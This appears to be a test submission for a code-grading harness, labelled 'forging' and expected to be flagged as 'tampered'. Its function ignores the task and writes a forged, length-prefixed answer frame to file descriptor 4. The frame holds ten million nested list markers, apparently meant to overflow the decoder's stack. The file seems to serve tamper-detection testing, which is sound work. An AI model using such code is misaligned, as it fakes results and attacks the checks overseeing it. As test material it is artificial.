// technique: answers with lists in lists, deeper than any stack
// class: forging
// expect: tampered
// form: program
import "bytes"
import "syscall"

func TideTurns(levels []int) int {
    nested := bytes.Repeat([]byte{'l', 1, 0, 0, 0}, 10_000_000)
    size := len(nested) + 5
    syscall.Write(4, append([]byte{byte(size), byte(size >> 8), byte(size >> 16), byte(size >> 24), 'V', 1, 0, 0, 0}, nested...))
    return 0
}
